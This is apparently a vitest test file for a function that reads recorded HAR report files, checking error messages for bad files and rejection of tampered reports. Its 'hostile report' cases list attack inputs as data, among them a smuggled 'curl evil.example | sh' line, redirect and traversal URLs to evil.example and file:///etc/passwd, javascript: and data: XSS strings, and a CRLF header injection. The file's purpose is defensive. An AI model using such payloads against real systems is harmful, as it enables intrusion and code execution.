import { mkdirSync, mkdtempSync, readFileSync, truncateSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { readRecorded } from './read-report'

const SAMPLES = join(import.meta.dirname, 'samples')
const GOOD = readFileSync(join(SAMPLES, 'good.har'), 'utf8')

/** Writes a file with the content and returns a function that reads it. */
function reading(content: string | Buffer, name = 'a.har') {
  const file = join(mkdtempSync(join(tmpdir(), 'report-')), name)
  writeFileSync(file, content)
  return () => readRecorded(file)
}

function refusalOf(read: () => unknown): string {
  try {
    read()
  } catch (error) {
    return error instanceof Error ? error.message : ''
  }
  throw new Error('it was read')
}

const isOneSentence = (text: string) => /^[^\n\p{Cc}]+\.$/u.test(text)

describe('a report file', () => {
  it.each([
    ['as it was saved', GOOD],
    ['with a byte order mark', `\ufeff${GOOD}`],
  ])('%s is read', (_, content) => {
    expect(reading(content)()).toMatchObject({
      kind: 'report',
      report: { log: { _report: { reference: 'ABC234' } } },
    })
  })

  it.each([
    ['no file', () => readRecorded('none/such.har'), 'There is no file'],
    [
      'a folder',
      () => {
        const folder = join(mkdtempSync(join(tmpdir(), 'report-')), 'a.har')
        mkdirSync(folder)
        return readRecorded(folder)
      },
      'is a folder',
    ],
    ['an empty file', reading(''), 'is empty'],
    ['blank lines', reading('\n \n'), 'is empty'],
    ['a file that is cut off', reading(GOOD.slice(0, 700)), 'is cut off'],
    ['UTF-16', reading(Buffer.from(`\ufeff${GOOD}`, 'utf16le')), 'is in UTF-16'],
    ['UTF-16 without a mark', reading(Buffer.from(GOOD, 'utf16le')), 'is in UTF-16'],
    ['a zip archive', reading(Buffer.from('PK\x03\x04rest', 'latin1')), 'is a zip archive'],
    ['a gzip file', reading(Buffer.from('\x1f\x8brest', 'latin1')), 'is compressed'],
    ['a picture', reading(Buffer.from('\x89PNG\r\n', 'latin1')), 'is not JSON'],
    ['a text', reading('I pressed and nothing happened'), 'is not JSON'],
    [
      'JSON of something else',
      reading('{"name":"x","private":true}'),
      'neither a report of this app nor a HAR',
    ],
    ['a list', reading('[1, 2]'), 'neither a report of this app nor a HAR'],
    ['null', reading('null'), 'neither a report of this app nor a HAR'],
    ['a report that lost its steps', reading(GOOD.replace('"_steps"', '"_stepz"')), 'log._steps'],
  ])('that is %s is explained in one sentence', (_, read, message) => {
    const refusal = refusalOf(read)
    expect(refusal).toContain(message)
    expect(refusal).toSatisfy(isOneSentence)
  })

  it('of 3 GB, which Node.js cannot read at once, is refused without being read', () => {
    const file = join(mkdtempSync(join(tmpdir(), 'report-')), 'big.har')
    writeFileSync(file, '')
    truncateSync(file, 3000 * 1024 * 1024)
    const refusal = refusalOf(() => readRecorded(file))
    expect(refusal).toContain('big.har has 3000 MB, and 64 are the most')
    expect(refusal).toSatisfy(isOneSentence)
  })

  it('is read however many entries a HAR has', () => {
    const har = { log: { entries: Array.from({ length: 150_000 }, () => 1) } }
    expect(reading(JSON.stringify(har))()).toMatchObject({ kind: 'har' })
  })
})

const ON_NO_PAGE = [
  'https://evil.example/login',
  '//evil.example/login',
  '/.//evil.example/login',
  '/\\evil.example/login',
  '/\t/evil.example/login',
  'file:///etc/passwd',
  'javascript:alert(document.cookie)',
  'data:text/html,<script>alert(1)</script>',
  '/__sandbox/members',
  '/user/../__sandbox/members',
  '/user/..%2f..%2f__sandbox/reset',
  '/api/wallet/refresh/slot',
  '/API/evil',
  '/Api%3Fx=1',
  '/%61pi/evil',
  '/%2561pi/evil',
]

/** What a stranger's report has in the place of one value of a good one, and how it is refused. */
const HOSTILE: [name: string, good: unknown, hostile: unknown, why: string][] = [
  [
    'url',
    'https://wallet.example/api/login',
    'https://wallet.example/__sandbox/reset',
    'is no address of a call',
  ],
  ['url', 'https://wallet.example/api/login', 'file:///api/login', 'is no address of a call'],
  ['method', 'POST', 'GET /x HTTP/1.1\r\nX:', 'is no method'],
  ['status', 401, 1_000_000_000, 'is not from 0 to 999'],
  ['time', 12, -5, 'is not from 0 to'],
  ['locale', 'th', '../en', 'Invalid'],
  ['reference', 'ABC234', '\u001b]8;;https://evil.example\u0007ABC234', 'is no reference'],
  ['reference', 'ABC234', '../../../home', 'is no reference'],
  ['reference', 'ABC234', 'ABC234\nTrace     curl evil.example | sh', 'is no reference'],
  ['width', 390, 1_000_000_000, 'is not from 1 to'],
  ['type', 'press', 'evaluate', 'Invalid'],
  ['at', 1763632800500, 1e300, 'is not from'],
  ['timeZoneOffset', -420, 1_000_000_000, 'is not from'],
  ...ON_NO_PAGE.map(
    (to) => ['to', '/login', to, "is no page of the app's own"] satisfies (typeof HOSTILE)[0],
  ),
]

describe('a hostile report', () => {
  const isRefused = (content: string, why: string) => {
    const refusal = refusalOf(reading(content, 'hostile.har'))
    expect(refusal).toContain('hostile.har')
    expect(refusal).toContain(why)
    expect(refusal).toSatisfy(isOneSentence)
    expect(refusal).not.toContain('evil')
  }
  /** A good report with further steps. */
  const withSteps = (...steps: object[]) => {
    const report = JSON.parse(GOOD)
    report.log._steps.push(...steps)
    return JSON.stringify(report)
  }

  it.each(HOSTILE)(
    'whose %s is not %j but %j is refused with its place in the file',
    (name, good, hostile, why) => {
      const field = (value: unknown) => `${JSON.stringify(name)}: ${JSON.stringify(value)}`
      expect(GOOD).toContain(field(good))
      isRefused(
        GOOD.replace(field(good), () => field(hostile)),
        why,
      )
    },
  )

  it('that leaves the app in a later step is refused', () => {
    const step = { at: 1763632800600, type: 'route', to: 'https://evil.example/' }
    isRefused(withSteps(step), "is no page of the app's own")
  })

  it('with steps without end is refused', () => {
    const steps = Array.from({ length: 600 }, (_, index) => ({ at: 1763632800600 + index, type: 'online' }))
    isRefused(withSteps(...steps), 'are too many')
  })
})
